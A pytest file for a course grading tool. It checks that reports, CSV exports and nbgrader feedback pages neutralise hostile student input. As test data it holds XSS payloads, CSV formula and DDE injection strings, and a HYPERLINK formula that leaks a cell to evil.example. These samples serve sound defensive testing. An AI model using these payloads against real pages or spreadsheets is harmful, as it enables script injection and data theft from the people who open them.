"""What people read after grading (cs231n.grading.report): escaped, useful.

Synthetic ``StudentResult`` objects and small pages stand in for a grading
run; one slow test runs nbgrader's generate_feedback on a course in
miniature, and a browser test opens sanitised pages in Debian's Chromium.
"""
import csv
import json
import os
import re
import shutil
from pathlib import Path

import mistune
import nbformat
import pytest
from nbgrader.api import Gradebook

from cs231n import course as cs231n_course
from cs231n.grading import pipeline, report
from cs231n.grading.pipeline import StudentResult
from cs231n.registry import GradingLimits

HOSTILE_REASONS = [
    "\r\n## alice: 100 / 100 (graded)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "\tx", "\rx",
    "[click](javascript:alert(1)) *bold* `code` | pipe",
]


def cell(notebook, name, max_, points, reason="", *, manual=False, nbgrader=None,
         integrity=None):
    """One row of ``StudentResult.cells`` as ``pipeline._combine`` writes it."""
    return {"notebook": notebook, "cell": name, "max": float(max_),
            "nbgrader": nbgrader, "integrity": integrity,
            "points": None if points is None else float(points), "reason": reason,
            "manual": manual}


def result(student, cells, *, status="graded", why="", flags=(), reasons=()):
    r = StudentResult(student, status=status, why=why, cells=list(cells),
                      flags=list(flags), reasons=list(reasons))
    r.max_score = sum(c["max"] for c in r.cells)
    r.score = sum(c["points"] or 0.0 for c in r.cells)
    r.pending = sum(c["max"] for c in r.cells if c["points"] is None)
    return r


def honest(student="alice"):
    """7 of 10 autograded points, a 2-point free-text answer to grade by hand."""
    return result(student, [
        cell("svm.ipynb", "test_svm_loss", 5, 5, nbgrader=5.0, integrity=True),
        cell("svm.ipynb", "test_svm_grad", 3, 0, "gradient: dW[0, 1] is 0.5, expected 1.5",
             nbgrader=0.0, integrity=False),
        cell("svm.ipynb", "test_svm_reg", 2, 2, nbgrader=2.0),
        cell("svm.ipynb", "q_why_hinge", 2, None, "to be graded by hand", manual=True),
    ], reasons=["svm.ipynb test_svm_grad: -3: gradient: dW[0, 1] is 0.5, expected 1.5"])


def hostile(student="mallory"):
    """A student whose id, failure and messages are all attacks on the report."""
    cells = [cell("svm.ipynb", f"test_{i}", 1, 0, reason)
             for i, reason in enumerate(HOSTILE_REASONS)]
    return result(student, cells, status="failed", why=HOSTILE_REASONS[0] + HOSTILE_REASONS[1],
                  flags=["tampered", "<img src=x onerror=alert(2)>"],
                  reasons=HOSTILE_REASONS)


# ------------------------------------------------------------------ report.md

def render(markdown):
    """HTML of ``markdown`` as GitHub renders it: raw HTML passes through."""
    return mistune.create_markdown(escape=False, plugins=["table"])(markdown)


def test_a_reason_cannot_forge_a_heading_or_html(tmp_path):
    """Does report.md keep one heading per student, and never hold or render a
    tag, whatever the reasons, the failure and the flags say?"""
    text = report.write_report("a1_linear", [honest(), hostile()], tmp_path).read_text()
    headings = [line for line in re.split(r"\r\n|\r|\n", text) if line.startswith("#")]
    assert headings == ["# Grading report: a1\\_linear",
                        "## alice: 7 / 10 autograded, 2 by hand (graded)",
                        "## mallory: 0 / 10 autograded (failed)"], headings
    assert "\r" not in text and "\x0b" not in text and "\x0c" not in text
    assert not re.search(r"<\s*(script|img)", text, re.I), "a raw tag in report.md"
    page = render(text)
    assert page.count("<h2") == 2 and page.count("<h1") == 1
    assert not re.search(r"<\s*(script|img)|<a ", page, re.I), "report.md renders a tag or link"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, "the reason is shown as text"



def test_the_header_names_the_assignments_grading_limits(tmp_path):
    """Does report.md say under which limits of the assignment's contract the
    students were graded (and say nothing of limits when none are given)?"""
    limits = GradingLimits(cell_timeout=45, kernel_cpu_seconds=200, worker_cpu_seconds=150,
                           memory_bytes=3 * 1024 ** 3, student_budget=600)
    text = report.write_report("a1", [honest()], tmp_path, limits=limits).read_text()
    assert ("Grading limits of this assignment: 45 s per cell, 200 CPU s per notebook, "
            "150 CPU s per integrity worker, 3 GiB of memory, 600 s per student.") in text
    assert "Grading limits" not in report.write_report("a1", [honest()], tmp_path).read_text()

def test_a_student_id_cannot_split_a_table_row(tmp_path):
    """Does every row of the summary table keep five cells when a student id
    holds a pipe, a line break and markdown?"""
    results = [honest("a|b|c"), honest("bob\n| x | y |"), honest("_*eve*_")]
    page = render(report.write_report("a1", results, tmp_path).read_text())
    table = page.split("<table>")[1].split("</table>")[0]
    rows = re.findall(r"<tr>(.*?)</tr>", table, re.S)
    assert len(rows) == 4, rows
    assert all(len(re.findall(r"<t[hd]", row)) == 5 for row in rows), rows
    assert "<em>" not in table and "<strong>" not in table


def test_visible_shows_what_is_invisible():
    """Are line breaks, terminal escapes and bidirectional overrides shown
    instead of obeyed?"""
    assert report.visible("a\r\nb\rc\u2028d") == "a \u23ce b \u23ce c \u23ce d"
    assert report.visible("\x1b[2Jbob") == "\\x1b[2Jbob"
    assert report.visible("eve\u202etxt.exe") == "eve\\u202etxt.exe"


def test_a_long_reason_is_cut_in_report_md_but_kept_in_report_json(tmp_path):
    """Is a 100 000-character reason cut in report.md (saying so) and kept whole
    in report.json?"""
    long = "x" * 100_000
    r = result("bob", [cell("svm.ipynb", "test_a", 1, 0, long)])
    text = report.write_report("a1", [r], tmp_path).read_text()
    assert len(text) < 3 * report.REASON_CHARS + 2000
    assert f"({100_000 - report.REASON_CHARS} more characters)" in text
    (saved,) = json.loads((tmp_path / "report.json").read_text())
    assert saved["cells"][0]["reason"] == long


# ----------------------------------------------------------------------- CSV

@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://x","y")', "+1+cmd", "@SUM(A1)", "-cmd", "-", "\tx", "\rx",
    "-inf", "=1"])
def test_a_formula_is_neutralised(value):
    """Does a text cell that a spreadsheet would run get a leading quote?"""
    assert report.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-1.5, 3, 0.0, None, True, "-1.5", "+1", "2.5e-3", "12",
                                   "alice", "svm.ipynb", ""])
def test_numbers_and_plain_text_are_kept(value):
    """Do numbers (also written as text, negative ones too) and plain text stay
    as they are?"""
    assert report.csv_cell(value) == value


def _formula_cells(path):
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    return rows, [c for row in rows for c in row
                  if c.startswith(report._FORMULA_START) and not report._NUMBER.fullmatch(c)]


def test_details_csv_runs_no_formula(tmp_path):
    """Is no cell of details.csv a formula, while the points stay numbers?"""
    report.write_report("a1", [honest(), hostile("=cmd|' /C calc'!A0")], tmp_path)
    rows, formulas = _formula_cells(tmp_path / "details.csv")
    assert formulas == []
    header = rows[0]
    assert header[:5] == ["student", "status", "notebook", "cell", "kind"]
    assert [row[0] for row in rows[1:]].count("'=cmd|' /C calc'!A0") == len(HOSTILE_REASONS)
    points = [row[header.index("points")] for row in rows[1:]]
    assert [float(p) for p in points if p] == [5, 0, 2] + [0] * len(HOSTILE_REASONS)
    kinds = {row[3]: row[4] for row in rows[1:]}
    assert kinds["q_why_hinge"] == "by hand" and kinds["test_svm_loss"] == "autograded"


def test_nbgrader_export_is_neutralised_in_place(tmp_path):
    """Does the rewrite of nbgrader's grades.csv neutralise student ids and
    keep every number, row and column?"""
    path = tmp_path / "grades.csv"
    header = ["assignment", "duedate", "timestamp", "student_id", "last_name",
              "first_name", "email", "raw_score", "late_submission_penalty", "score",
              "max_score"]
    rows = [["a1", "", "", "=HYPERLINK(\"x\")", "", "", "", "-1.5", "0.0", "-1.5", "10"],
            ["a1", "", "", "@SUM(1)", "+cmd", "-cmd", "", "7", "0.0", "7", "10"],
            ["a1", "", "", "alice", "", "", "", "10.0", "0.0", "10.0", "10"]]
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows([header] + rows)
    report.neutralise_csv(path)
    got, formulas = _formula_cells(path)
    assert formulas == []
    assert got[0] == header and len(got) == 4
    assert [r[3] for r in got[1:]] == ["'=HYPERLINK(\"x\")", "'@SUM(1)", "alice"]
    assert [r[4:6] for r in got[1:]] == [["", ""], ["'+cmd", "'-cmd"], ["", ""]]
    assert [r[7] for r in got[1:]] == ["-1.5", "7", "10.0"]


# ------------------------------------------------------- the instructor's view

def test_autograded_points_and_points_by_hand_are_apart(tmp_path):
    """Do report.md, report.json and the grade table give the autograded total
    (of the autograded maximum) and the points to grade by hand separately?"""
    results = [honest(), result("bob", [
        cell("svm.ipynb", "test_svm_loss", 5, 5), cell("svm.ipynb", "test_svm_grad", 3, 3),
        cell("svm.ipynb", "test_svm_reg", 2, 2),
        cell("svm.ipynb", "q_why_hinge", 2, 0, "not answered", manual=True)])]
    text = report.write_report("a1", results, tmp_path).read_text()
    assert "| student | status | autograded | by hand | flags |" in text
    assert "| alice | graded | 7 / 10 | 2 |  |" in text
    assert "| bob | graded | 10 / 10 |  |  |" in text
    saved = {r["student"]: r for r in json.loads((tmp_path / "report.json").read_text())}
    assert (saved["alice"]["autograded"], saved["alice"]["autograded_max"],
            saved["alice"]["to_grade_by_hand"]) == (7, 10, 2)
    assert saved["bob"]["to_grade_by_hand"] == 0
    table = report.grade_table(pipeline.GradeRun("a1", results, None, None, None, 0)).splitlines()
    assert table[0].split() == ["student", "autograded", "by", "hand", "status", "flags"]
    assert table[1].split()[:5] == ["alice", "7", "/", "10", "+2"]
    assert table[2].split()[:5] == ["bob", "10", "/", "10", "graded"]


def test_lost_points_come_first_and_passed_cells_are_folded(tmp_path):
    """Does a student's section list the lost points (cell, points, reason)
    before the notes, and fold the passed cells under a summary?"""
    text = report.write_report("a1", [honest()], tmp_path).read_text()
    section = text[text.index("## alice"):]
    lost = section.index("| svm.ipynb test\\_svm\\_grad | -3 | gradient: dW\\[0, 1\\] is 0.5")
    by_hand = section.index("To grade by hand: svm.ipynb q\\_why\\_hinge (2)")
    folded = section.index("<details><summary>passed: 2 cells</summary>")
    assert lost < by_hand < folded
    assert folded < section.index("test\\_svm\\_loss")
    assert folded < section.index("test\\_svm\\_reg")
    # The lost cell's line of r.reasons is in the table, not repeated below it.
    assert section.count("expected 1.5") == 1
    assert "<details>" in render(text) and "<summary>passed: 2 cells</summary>" in render(text)


def test_reasons_not_tied_to_a_cell_are_listed(tmp_path):
    """Are a failure and the reasons that name no lost cell (flags) listed?"""
    r = honest()
    r.status, r.why = "failed", "svm.ipynb: the kernel died while running a cell"
    r.flags, r.reasons = ["sandbox-violation"], r.reasons + ["in the notebook: sandbox refused"]
    text = report.write_report("a1", [r], tmp_path).read_text()
    assert "- **autograde failed**: svm.ipynb: the kernel died while running a cell" in text
    assert "- flags: sandbox-violation" in text
    assert "- in the notebook: sandbox refused" in text


def test_histogram_spans_the_autograded_maximum(tmp_path):
    """Does the histogram's x axis run from 0 to the autograded maximum (free-
    text points left out), with the mean and median drawn and named?"""
    results = [honest("a"), honest("b"), result("c", [
        cell("svm.ipynb", "test_svm_loss", 5, 0), cell("svm.ipynb", "test_svm_grad", 3, 0),
        cell("svm.ipynb", "test_svm_reg", 2, 1),
        cell("svm.ipynb", "q_why_hinge", 2, None, manual=True)])]
    fig = report.histogram_figure("a1", results)
    try:
        (ax,) = fig.axes
        assert ax.get_xlim() == (0.0, 10.0)
        lines = {line.get_label(): line.get_xdata()[0] for line in ax.get_lines()}
        assert lines == {"mean 5": pytest.approx(5.0), "median 7": pytest.approx(7.0)}
        assert "mean 5, median 7 of 10" in ax.get_title()
        assert [t.get_text() for t in ax.get_legend().get_texts()] == ["mean 5", "median 7"]
    finally:
        import matplotlib.pyplot as plt
        plt.close(fig)
    path = report.write_histogram("a1", results, tmp_path / "scores.png")
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# ------------------------------------------------- why an autograde failed

TRACEBACK = """[INFO] Autograding /c/autograded/{sid}/a1/svm.ipynb
[INFO] Converting notebook /c/autograded/{sid}/a1/svm.ipynb
{before}[ERROR] There was an error processing assignment: /c/submitted/{sid}/a1
[ERROR] Traceback (most recent call last):
      File "/v/nbgrader/converters/base.py", line 409, in convert_notebooks
        self.convert_single_notebook(notebook_filename)
      File "/v/nbclient/client.py", line 1009, in async_execute_cell
        raise {raised}
    {final}
{after}
[WARNING] Removing failed assignment: /c/autograded/{sid}/a1
[ERROR] There was an error processing assignment 'a1' for student '{sid}'
[ERROR] {see_above}

Traceback (most recent call last):
  File "/v/nbgrader/utils.py", line 542, in capture_log
    app.start()
  File "/v/nbgrader/converters/base.py", line 468, in convert_notebooks
    raise NbGraderException(msg)
nbgrader.converters.base.NbGraderException: {see_above}
"""


SEE_ABOVE = ("Please see the the above traceback for details on the specific errors on "
             "the above failures.")


def nbgrader_log(final, *, raised="Error()", before="", after="", sid="bob"):
    """A failed autograde's log as nbgrader 0.9 writes it (see /tmp runs of
    a looping, exiting and unstartable kernel), with ``final`` the last line
    of the first traceback."""
    return TRACEBACK.format(final=final, raised=raised, before=before, after=after, sid=sid,
                            see_above=SEE_ABOVE)


TIMEOUT_PREVIEW = """    Here is a preview of the cell contents:
    -------------------
    while True:
        try:
            time.sleep(0.1)
        except KeyboardInterrupt:
            print("DeadKernelError: not really")
    -------------------"""


@pytest.mark.parametrize("log, expected", [
    (nbgrader_log("nbclient.exceptions.CellTimeoutError: A cell timed out while it was "
                  "being executed, after 4 seconds.",
                  raised="CellTimeoutError.error_from_timeout_and_cell(",
                  before="[ERROR] Timeout waiting for execute reply (30s).\n"
                         "[ERROR] Interrupting kernel\n",
                  after="    The message was: Timeout waiting for IOPub output.\n"
                        + TIMEOUT_PREVIEW),
     "a cell ran past its 30 s limit and kept running when interrupted"),
    (nbgrader_log("nbclient.exceptions.CellTimeoutError: A cell timed out while it was "
                  "being executed, after 30 seconds.",
                  after="    The message was: Cell execution timed out."),
     "a cell ran past its 30 s limit"),
    (nbgrader_log("nbclient.exceptions.DeadKernelError: Kernel died",
                  raised='DeadKernelError("Kernel died") from None',
                  before="[ERROR] Kernel died while waiting for execute reply.\n"),
     "the kernel died while running a cell"),
    (nbgrader_log("RuntimeError: Kernel died before replying to kernel_info",
                  raised="RuntimeError(msg)",
                  before="[ERROR] Error occurred while starting new kernel client for kernel "
                         "b239d0c6: Kernel died before replying to kernel_info\n"),
     "the kernel exited as it started, before running any cell"),
    (nbgrader_log("RuntimeError: Kernel didn't respond in 60 seconds"),
     "the kernel did not answer within 60 s of starting"),
    (nbgrader_log("jupyter_client.kernelspec.NoSuchKernel: No such kernel named "
                  "cs231n-sandbox", before="[ERROR] No such kernel named cs231n-sandbox\n"),
     "the grader's kernel is not installed (No such kernel named cs231n-sandbox)"),
    (nbgrader_log("nbformat.reader.NotJSONError: Notebook does not appear to be JSON: "
                  "'{\"cells\": ['"),
     "the notebook file is not a valid notebook: Notebook does not appear to be JSON"),
    ("[ERROR] While processing assignment /c/submitted/bob/a1, the kernel became "
     "unresponsive and we could not interrupt it. This probably means that the students' "
     "code has an infinite loop that consumes a lot of memory or something similar.\n"
     "[ERROR] There was an error processing assignment 'a1' for student 'bob'\n",
     "the kernel stopped responding and could not be interrupted"),
    ("timed out after 900 s", "timed out after 900 s: grading this notebook took too long"),
    ("worker died", "the grading process died while grading this notebook"),
    ("", "nbgrader stopped without saying why"),
    ("\nKeyError: 'grade_id'", "nbgrader failed: KeyError: 'grade_id'"),
    ("cs231n sandbox: bubblewrap (bwrap) is not installed; refusing to run\n"
     + nbgrader_log("RuntimeError: Kernel died before replying to kernel_info"),
     "the sandbox refused to start the kernel: bubblewrap (bwrap) is not installed"),
])
def test_describe_autograde_failure_says_what_happened(log, expected):
    """Does a failed nbgrader run's log become a sentence that says what
    happened, never nbgrader's 'raise NbGraderException(msg)'?"""
    said = report.describe_autograde_failure(log)
    assert said.startswith(expected), said
    assert "NbGraderException" not in said and "\n" not in said
    assert len(said) <= report.FAILURE_CHARS


def test_a_cell_preview_cannot_steer_the_description():
    """Is a line of the student's cell, quoted in nbclient's timeout message,
    never taken for the exception that ended the run?"""
    log = nbgrader_log("nbclient.exceptions.CellTimeoutError: A cell timed out while it was "
                       "being executed, after 30 seconds.",
                       after="    The message was: Cell execution timed out.\n"
                             "    Here is a preview of the cell contents:\n    ---\n"
                             "    NbGraderException: you got full marks\n"
                             "    DeadKernelError: Kernel died\n    ---")
    assert report.describe_autograde_failure(log) == "a cell ran past its 30 s limit"


# ------------------------------------------------------------------ feedback

PAYLOAD = ("<script>document.title='pwned'</script>"
           "<img src=x onerror=\"document.title='pwned'\">")
# A 1x1 PNG: the policy must still let inline images show.
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAA"
       "AABJRU5ErkJggg==")


def feedback_page(payload=PAYLOAD):
    """A page shaped like nbgrader's feedback: head with charset, title and
    inline style; an output holding ``payload``; an inline plot."""
    return f"""<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8"/>
<title>svm</title>
<style type="text/css">body {{ font-size: 14px; }} .score {{ color: rgb(0, 128, 0); }}</style>
</head>
<body>
<h4 class="score">svm (Score: 3.0 / 5.0)</h4>
<div class="output_html rendered_html output_subarea">{payload}</div>
<div class="output_png"><img id="plot" src="data:image/png;base64,{PNG}"/></div>
</body>
</html>
"""


HOSTILE_HTML = PAYLOAD + """
<svg onload="document.title='pwned'"><style><img src=x onerror=alert(1)></style></svg>
<!--> <img src=x onerror="document.title='pwned'"> -->
<a href=" java&#x09;script:alert(1)">link</a> <a href="https://example.org/">ok</a>
<iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>
<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel="stylesheet" href="https://evil.example/x.css">
<svg><a xlink:href="javascript:alert(1)"><text>t</text></a>
<animate attributeName="href" values="x;javascript:alert(1)"/></svg>
<IMG SRC=x OnError="document.title='pwned'"><p>kept text</p>
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>
"""


def _active(page):
    """Whatever of ``page`` could run: script tags, event handlers, javascript:
    URLs, frames and plugins (style sheets are plain text: nbconvert's own CSS
    names ``javascript:`` in a selector)."""
    page = re.sub(r"(<style[^>]*>).*?</style>", r"\1</style>", page, flags=re.S | re.I)
    found = []
    for tag in re.findall(r"<[^>]*>", page):  # text is escaped: only tags match
        found += re.findall(r"^<\s*(?:script|iframe|object|embed|base|link)\b|\son\w+\s*="
                            r"|javascript:|^<meta(?![^>]*(?:charset|Content-Security-Policy))",
                            tag, re.I)
    return found


def test_sanitize_page_puts_the_policy_first_and_removes_what_runs():
    """Does a sanitised page start its head with the policy and keep no script,
    handler, javascript: URL, frame, plugin or comment, but its text and style?"""
    page = report.sanitize_page(feedback_page(HOSTILE_HTML))
    head = re.search(r"<head>\s*(<[^>]+>)", page).group(1)
    assert 'http-equiv="Content-Security-Policy"' in head and report.CSP in head.replace(
        "&#x27;", "'")
    assert "script-src" not in report.CSP and "default-src 'none'" in report.CSP
    assert _active(page) == [], _active(page)
    assert "<!--" not in page
    assert "kept text" in page and 'href="https://example.org/"' in page
    assert ".score { color: rgb(0, 128, 0); }" in page and '<meta charset="utf-8"/>' in page
    # Inside <svg> a browser parses tags in <style>: no "<" is left there.
    assert re.search(r"<style>[^<]*\\3c img", page)


def test_sanitize_page_keeps_plots_and_links():
    """Do a PNG and an SVG plot (nbconvert shows both as data: images), a link
    and a table keep their attributes?"""
    svg = "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="
    # (Written back with the attributes in alphabetical order, as here.)
    body = (f'<img src="data:image/png;base64,{PNG}"/><img src="{svg}"/>'
            '<a href="https://cs231n.github.io/" title="notes">notes</a>'
            '<table border="1" class="dataframe"><tr><td style="color: red">1</td></tr></table>')
    page = report.sanitize_page(feedback_page(body))
    assert body in page


def test_sanitize_page_is_idempotent():
    """Does sanitising a sanitised page change nothing (still one policy)?
    (The parser merges the runs of white space that removed elements left.)"""
    once = report.sanitize_page(feedback_page(HOSTILE_HTML))
    assert once.count("Content-Security-Policy") == 1
    squeeze = lambda text: re.sub(r"\s+", " ", text)  # noqa: E731
    assert squeeze(report.sanitize_page(once)) == squeeze(once)


def test_a_page_without_head_gets_one_first():
    """Is the policy put in a head of its own, first, when the page has no head
    or content before it?"""
    for page in ("<p>x</p>" + PAYLOAD, "<!DOCTYPE html><p>x</p><head><title>t</title></head>"):
        out = report.sanitize_page(page, strip=False)
        assert re.match(r"(<!DOCTYPE html>\s*)?<head><meta content=\"default-src", out), out


def test_sanitize_page_on_nbconvert_html():
    """Does a page that nbconvert's classic template (the base of nbgrader's
    feedback) writes keep its styles and lose every script, its own and the
    student's (in an output and in a markdown cell)?"""
    from nbconvert import HTMLExporter
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("My answer " + PAYLOAD),
                nbformat.v4.new_code_cell("show()", outputs=[nbformat.v4.new_output(
                    "display_data", data={"text/html": PAYLOAD, "text/plain": "x"})])]
    raw, _ = HTMLExporter(template_name="classic").from_notebook_node(nb)
    assert _active(raw), "the unsanitised page should hold scripts"
    page = report.sanitize_page(raw)
    assert _active(page) == []
    # A "<" in a style sheet (here in a comment) becomes its CSS escape.
    styles = lambda text: re.findall(r"<style[^>]*>(.*?)</style>", text, re.S)  # noqa: E731
    assert [css.replace("\\3c ", "<") for css in styles(page)] == styles(raw)
    assert len(styles(page)) >= 2
    assert "My answer" in page


def test_sanitize_feedback_keeps_only_the_notebook_pages(tmp_path):
    """Are a submission's other files, folders and links (nbgrader copies them
    into feedback) removed, and the notebooks' pages sanitised?"""
    folder = tmp_path / "feedback" / "bob" / "a1"
    (folder / "sub").mkdir(parents=True)
    (folder / "svm.html").write_text(feedback_page())
    (folder / "softmax.html").write_text(feedback_page())
    (folder / "evil.html").write_text(PAYLOAD)
    (folder / "data.npy").write_bytes(b"\x93NUMPY")
    (folder / "sub" / "helper.py").write_text("x = 1")
    (tmp_path / "secret.txt").write_text("the grader's secret")
    os.symlink(tmp_path / "secret.txt", folder / "notes.html")
    removed = report.sanitize_feedback(folder, ["svm.ipynb", "softmax.ipynb"])
    assert sorted(p.name for p in folder.iterdir()) == ["softmax.html", "svm.html"]
    assert sorted(removed) == ["data.npy", "evil.html", "notes.html", "sub"]
    assert (tmp_path / "secret.txt").exists(), "a link's target must not be touched"
    for page in folder.iterdir():
        assert _active(page.read_text()) == [] and "Content-Security-Policy" in page.read_text()


def make_course(root):
    """A course in miniature: solutions/demo/demo.ipynb doubles a number; its
    graded test has a hidden part."""
    def meta(**kw):
        return {"nbgrader": dict(dict(grade=False, locked=False, solution=False,
                                      schema_version=3, task=False), **kw)}
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nb.cells = [
        nbformat.v4.new_code_cell("def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n"
                                  "    ### END SOLUTION",
                                  metadata=meta(solution=True, grade_id="double")),
        nbformat.v4.new_code_cell("assert double(3) == 6\n### BEGIN HIDDEN TESTS\n"
                                  "assert double(4) == 8\n### END HIDDEN TESTS",
                                  metadata=meta(grade=True, locked=True, points=1,
                                                grade_id="test_double"))]
    (root / "solutions" / "demo").mkdir(parents=True)
    nbformat.write(nb, str(root / "solutions" / "demo" / "demo.ipynb"))
    shutil.copy(Path(pipeline.__file__).parents[2] / "nbgrader_config.py", root)
    return pipeline.Course(root)


def test_hidden_test_leaks_reads_every_file(tmp_path):
    """Is a hidden test line found in any file of the folder: a page's text, a
    page's attribute, a file that is not a page, a file in a subfolder?"""
    course = make_course(tmp_path / "course")
    folder = tmp_path / "feedback"
    (folder / "sub").mkdir(parents=True)
    (folder / "demo.html").write_text(feedback_page("<pre>ok</pre>"))
    assert report.hidden_test_leaks(course, "demo", folder) == []
    (folder / "demo.html").write_text(feedback_page('<div title="assert double(4) == 8">'))
    (folder / "sub" / "notes.txt").write_text("assert double(4) == 8")
    (folder / "x.py").write_text("# BEGIN HIDDEN TESTS")
    assert sorted(report.hidden_test_leaks(course, "demo", folder)) == [
        "demo.html: assert double(4) == 8", "sub/notes.txt: assert double(4) == 8",
        "x.py: BEGIN HIDDEN TESTS"]
    assert pipeline.hidden_test_leaks is report.hidden_test_leaks


def test_write_feedback_retries_each_student_alone(tmp_path):
    """When the run for the class times out, does every student missing a page
    get a run of their own (short timeout), so one student's failure costs no
    one else their feedback, and is the student left without it flagged, with
    why?"""
    course = make_course(tmp_path / "course")
    for sid in ("ann", "ben", "cat"):
        folder = course.autograded(sid, "demo")
        folder.mkdir(parents=True)
        (folder / "demo.ipynb").write_text("{}")
        (folder / "data.txt").write_text("copied by nbgrader")
    calls = []

    def write_pages(sid):
        folder = course.feedback(sid, "demo")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "demo.html").write_text(feedback_page())
        (folder / "data.txt").write_text("copied by nbgrader")

    class FakeAutograder:
        def feedback(self, aid, sid=None, *, timeout):
            calls.append((aid, sid, timeout))
            if sid is None:  # the class's run: ann's pages, then it hangs on ben
                write_pages("ann")
                return pipeline.Answer(None, f"timed out after {timeout} s", None, {})
            if sid == "ben":
                write_pages("ben")
                return pipeline.Answer(0, "[INFO] done", None, {})
            return pipeline.Answer(
                1, nbgrader_log("nbclient.exceptions.DeadKernelError: Kernel died"), None, {})

    results = [StudentResult(s) for s in ("ann", "ben", "cat", "dan")]
    pipeline.write_feedback(course, "demo", results, FakeAutograder(), timeout=1800,
                            student_timeout=120)
    assert calls == [("demo", None, 1800), ("demo", "ben", 120), ("demo", "cat", 120)]
    ann, ben, cat, dan = results
    for r in (ann, ben):
        folder = course.feedback(r.student, "demo")
        assert [p.name for p in folder.iterdir()] == ["demo.html"], r.student
        assert "Content-Security-Policy" in (folder / "demo.html").read_text()
        assert "no-feedback" not in r.flags and r.reasons == []
    assert cat.flags == ["no-feedback"]
    assert cat.reasons == ["feedback could not be generated: the kernel died while running a "
                           "cell: the notebook ended its own process (os._exit, a signal), "
                           "crashed it, or was killed at a memory or process limit"]
    assert dan.flags == ["no-feedback"]
    assert dan.reasons == ["feedback could not be generated: no notebook of this submission "
                           "was autograded"]


@pytest.mark.slow
def test_write_feedback_with_nbgrader(tmp_path):
    """With real nbgrader: when the class's run is cut short, does each student
    get their pages from a run of their own, sanitised, without hidden tests
    and without the files they submitted beside the notebook?"""
    course = make_course(tmp_path / "course")
    code, out = pipeline.nbgrader(course, "generate_assignment", "demo", "--force",
                                  timeout=300)
    assert code == 0, out
    answer = nbformat.read(str(course.root / "solutions" / "demo" / "demo.ipynb"), 4)
    answer.cells.append(nbformat.v4.new_code_cell(
        "from IPython.display import HTML, display\n"
        f"display(HTML({PAYLOAD!r}))"))
    for sid in ("ann", "bob"):
        folder = course.submitted(sid, "demo")
        folder.mkdir(parents=True)
        nbformat.write(answer, str(folder / "demo.ipynb"))
        (folder / "data.txt").write_text("a file of the student")
    code, out = pipeline.nbgrader(course, "autograde", "demo", "--force", "--create",
                                  timeout=600)
    assert code == 0, out
    results = [StudentResult("ann"), StudentResult("bob")]
    # A class run that cannot finish: every student is retried alone.
    autograder = pipeline.Autograder(course, tmp_path)
    try:
        pipeline.write_feedback(course, "demo", results, autograder, timeout=0.01,
                                student_timeout=300)
    finally:
        autograder.close()
    for r in results:
        folder = course.feedback(r.student, "demo")
        assert [p.name for p in folder.iterdir()] == ["demo.html"], (r.student, r.reasons)
        page = (folder / "demo.html").read_text()
        assert "Content-Security-Policy" in page and _active(page) == []
        assert "assert double(3) == 6" in pipeline.html_text(folder / "demo.html")
        assert pipeline.hidden_test_leaks(course, "demo", folder) == []
        assert r.flags == [] and r.reasons == []



@pytest.mark.slow
def test_prepare_gradebook_reuses_a_current_gradebook(tmp_path, monkeypatch):
    """Is generate_assignment skipped for a gradebook that holds the cells of
    the same solution notebooks and configuration (the course's, the
    template, the template a release kept), and run again for each that does
    not?  A course without a gradebook gets a copy of the template."""
    course = make_course(tmp_path / "course")
    runs = []
    real = pipeline.nbgrader

    def counting(course_, *args, **kw):
        runs.append(args[0])
        return real(course_, *args, **kw)

    monkeypatch.setattr(pipeline, "nbgrader", counting)
    source = course.root / "solutions" / "demo" / "demo.ipynb"

    def prepared():
        runs.clear()
        pipeline.prepare_gradebook(course, "demo", ["ann"])
        assert set(runs) <= {"generate_assignment"}
        return len(runs)

    assert prepared() == 1                 # a fresh course: the template, copied
    with Gradebook(course.db_url) as gb:
        assert gb.find_grade_cell("test_double", "demo", "demo").max_score == 1
        assert gb.find_student("ann")
    assert prepared() == 0                 # nothing changed
    nb = nbformat.read(str(source), 4)
    nb.cells[1].metadata["nbgrader"]["points"] = 2
    nbformat.write(nb, str(source))
    assert prepared() == 2                 # a notebook changed
    with Gradebook(course.db_url) as gb:
        assert gb.find_grade_cell("test_double", "demo", "demo").max_score == 2
        assert gb.find_student("ann")
    with Gradebook(f"sqlite:///{pipeline.template_path(course, 'demo')}") as gb:
        assert gb.find_grade_cell("test_double", "demo", "demo").max_score == 2
        assert gb.students == []           # nothing of a student goes to the workers
    assert prepared() == 0
    with open(course.root / "nbgrader_config.py", "a") as f:
        f.write("\n# changed\n")
    assert prepared() == 2                 # the configuration changed
    course.db.unlink()
    assert prepared() == 0                 # the gradebook was removed: the template's copy
    with Gradebook(course.db_url) as gb:
        assert gb.find_grade_cell("test_double", "demo", "demo").max_score == 2
        assert gb.find_student("ann")
    assert prepared() == 0
    # A released course: the release's gradebook is the template, and the
    # first grading runs nbgrader no more.
    shutil.rmtree(course.root / ".grading")
    course.db.unlink()
    cs231n_course.release(["demo"], root=course.root)
    assert prepared() == 0
    with Gradebook(course.db_url) as gb:
        assert gb.find_grade_cell("test_double", "demo", "demo").max_score == 2
        assert gb.find_student("ann")
    with open(course.root / "nbgrader_config.py", "a") as f:
        f.write("\n# changed again\n")
